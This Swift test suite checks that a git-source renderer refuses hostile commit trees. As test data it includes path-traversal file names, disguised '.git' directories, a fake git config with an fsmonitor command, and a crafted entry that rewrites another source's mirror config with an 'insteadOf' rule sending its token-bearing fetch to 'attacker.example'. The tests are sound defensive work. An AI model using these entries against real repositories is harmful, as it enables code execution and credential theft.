import DesiredState
import Foundation
import Git
import Rendering
import TestSupport
import Testing

/// A writer of one source pushes a tree no `git add` would make. Whatever the tree holds, nothing
/// is written outside the render's own checkout, the commit is refused naming the entry, and the
/// commit before it stays the source's last good one.
@Suite(.offThePool) struct HostileTreeTests {
    static let tools = Tools(
        helm: ["\(SluiceBinary.repositoryRoot)/.build/tools/helm"], kustomize: ["\(SluiceBinary.repositoryRoot)/.build/tools/kubectl", "kustomize"])
    static let configMap = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata: {mode: batch}\n"
    static let kustomization = "resources: [cm.yaml]\n"

    /// One hostile entry per way of spelling "outside": the name, where it sits, what it claims.
    static let hostile: [(label: String, entry: RawTreeEntry, named: String)] = [
        ("a name holding ../", .file("../../escaped", "pwned"), "../../escaped"),
        ("a directory named ..", .directory("..", [.directory("..", [.file("escaped", "pwned")])]), ".."),
        ("a directory named .", .directory(".", [.file("escaped", "pwned")]), "."),
        ("backslashes", .file("..\\..\\escaped", "pwned"), "..\\..\\escaped"),
        (".git in capitals", .directory(".GIT", [.file("config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")]), ".GIT"),
        (".git with a trailing dot", .directory(".git.", [.file("config", "x")]), ".git."),
        (".git with an HFS ignorable", .directory(".g\u{200C}it", [.file("config", "x")]), ".g\u{200C}it"),
        ("an empty name", .file(name: [], contents: "x"), ""),
        ("a newline", .file("cm\nx.yaml", "x"), "cm\\x0ax.yaml"),
        ("bytes that are not UTF-8", .file(name: [0xff, 0x2e, 0x79], contents: "x"), "\\xff.y"),
    ]

    func fixture() throws -> (GitFixture, good: String) {
        let git = try GitFixture()
        try git.write("app/kustomization.yaml", Self.kustomization)
        try git.write("app/cm.yaml", Self.configMap)
        return (git, try git.commit("good"))
    }

    /// The tree of the good commit plus `extra` inside `app/`.
    static func tree(appExtra: [RawTreeEntry] = [], rootExtra: [RawTreeEntry] = []) -> [RawTreeEntry] {
        rootExtra + [.directory("app", appExtra + [.file("cm.yaml", configMap), .file("kustomization.yaml", kustomization)])]
    }

    @Test(arguments: hostile.indices) func aHostileEntryIsRefusedAndNothingLeavesTheCheckout(_ i: Int) async throws {
        let (label, entry, named) = Self.hostile[i]
        let (git, good) = try fixture()
        let place = TemporaryDirectory(prefix: "sluice-hostile")
        let renderParent = place.file("render/deep")
        for mode in [RenderOptions.Mode.kustomize, .plain] {
            let source = GitSource(
                spec: GitSourceSpec(url: git.bare, path: "app"), cacheDirectory: place.file("cache-\(mode)"), render: RenderOptions(mode: mode),
                tools: Self.tools, renderDirectory: renderParent)
            let first = try await source.snapshot()
            #expect(first.commit.id.hex == good)
            let bad = try git.commitRawTree(Self.tree(appExtra: [entry]), message: "hostile: \(label)")
            do {
                let snap = try await source.snapshot()
                Issue.record("\(label) (\(mode)): commit \(snap.commit.id.short) was read: \(snap.manifests.manifests.map(\.name))")
            } catch let error as TreeError {
                #expect(error.commit.hex == bad)
                #expect(error.reason == .unsafeName)
                #expect(error.description.contains("'app/\(named)"), "\(label): \(error)")
            } catch  where named.isEmpty {
                // libgit2 will not even index a pack holding an empty name: the fetch fails.
                #expect("\(error)".contains("can't parse filename"), "\(error)")
            }
            try git.git(["update-ref", "refs/heads/main", good], cwd: git.bare)
        }
        // Nothing anywhere outside a checkout: no `escaped`, no config of a fake .git.
        let found = FileManager.default.enumerator(atPath: place.path)?.compactMap { $0 as? String } ?? []
        #expect(!found.contains { $0.hasSuffix("escaped") || $0.contains("sluice-checkout") }, "\(found.filter { !$0.contains("cache-") })")
        #expect(!FileManager.default.fileExists(atPath: "\(SluiceBinary.repositoryRoot)/../escaped"))
    }

    /// The attack as it was done: an entry of one source that climbs from the checkout into the
    /// cache and rewrites another source's mirror config with an `insteadOf` rule, so that
    /// source's next fetch (with its token) goes to the attacker.
    @Test func oneSourceCannotRewriteAnothersMirror() async throws {
        let place = TemporaryDirectory(prefix: "sluice-hostile")
        let cache = place.file("cache")
        let victimRepo = try GitFixture()
        try victimRepo.write("cm.yaml", Self.configMap)
        try victimRepo.commit("victim")
        let victim = GitSource(spec: GitSourceSpec(url: victimRepo.bare), cacheDirectory: cache, tools: Self.tools, renderDirectory: place.file("render"))
        _ = try await victim.snapshot()
        let mirrors = try FileManager.default.contentsOfDirectory(atPath: cache)
        try #require(mirrors.count == 1)
        let victimConfig = "\(cache)/\(mirrors[0])/config"
        let before = try String(contentsOfFile: victimConfig, encoding: .utf8)

        let (attacker, _) = try fixture()
        let source = GitSource(
            spec: GitSourceSpec(url: attacker.bare, path: "app"), cacheDirectory: cache, render: RenderOptions(mode: .kustomize), tools: Self.tools,
            renderDirectory: place.file("render"))
        _ = try await source.snapshot()
        let rule = "[url \"http://attacker.example/\"]\n\tinsteadOf = \(victimRepo.bare)\n"
        // The checkout is render/sluice-checkout-XXXXXX: two levels up is `place`.
        let climb = RawTreeEntry.file("../../cache/\(mirrors[0])/config", before + rule)
        let nested = RawTreeEntry.directory(
            "..", [.directory("..", [.directory("cache", [.directory(mirrors[0], [.file("config", before + rule)])])])])
        for entry in [climb, nested] {
            let bad = try attacker.commitRawTree(Self.tree(rootExtra: [entry]), message: "climb")
            let error = await #expect(throws: TreeError.self) { try await source.snapshot() }
            #expect(error?.commit.hex == bad)
            #expect(try String(contentsOfFile: victimConfig, encoding: .utf8) == before)
            try attacker.git(["update-ref", "refs/heads/main", try attacker.head()], cwd: attacker.bare)
        }
        #expect(try await victim.snapshot().manifests.manifests.map(\.name) == ["settings"])
    }

    @Test func duplicateNamesAreRefused() async throws {
        let (git, _) = try fixture()
        let source = GitSource(spec: GitSourceSpec(url: git.bare, path: "app"), cacheDirectory: TemporaryDirectory(prefix: "c").path, tools: Self.tools)
        try git.commitRawTree(
            [.directory("app", [.file("cm.yaml", Self.configMap), .file("cm.yaml", "kind: Secret\n"), .file("kustomization.yaml", Self.kustomization)])],
            message: "twice")
        let error = await #expect(throws: TreeError.self) { try await source.snapshot() }
        #expect(error?.reason == .duplicate)
        #expect(error?.path == "app/cm.yaml")
    }

    @Test func aCommitOverTheFileOrByteLimitIsRefusedBeforeItIsRead() async throws {
        let git = try GitFixture()
        for i in 0..<30 { try git.write("app/cm-\(i).yaml", Self.configMap.replacingOccurrences(of: "settings", with: "s\(i)")) }
        try git.commit("thirty")
        let cache = TemporaryDirectory(prefix: "c")
        let few = GitSource(
            spec: GitSourceSpec(url: git.bare, path: "app"), cacheDirectory: cache.path, tools: Self.tools,
            limits: SourceLimits(tree: TreeLimits(maxFiles: 20)))
        let tooMany = await #expect(throws: TreeError.self) { try await few.snapshot() }
        #expect(tooMany?.reason == .tooManyFiles)
        #expect(tooMany?.description.contains("max-commit-files") == true)

        let small = GitSource(
            spec: GitSourceSpec(url: git.bare, path: "app"), cacheDirectory: cache.path, tools: Self.tools,
            limits: SourceLimits(tree: TreeLimits(maxBytes: 1_000)))
        let tooLarge = await #expect(throws: TreeError.self) { try await small.snapshot() }
        #expect(tooLarge?.reason == .tooLarge)

        let enough = GitSource(spec: GitSourceSpec(url: git.bare, path: "app"), cacheDirectory: cache.path, tools: Self.tools)
        #expect(try await enough.snapshot().manifests.manifests.count == 30)
    }
}
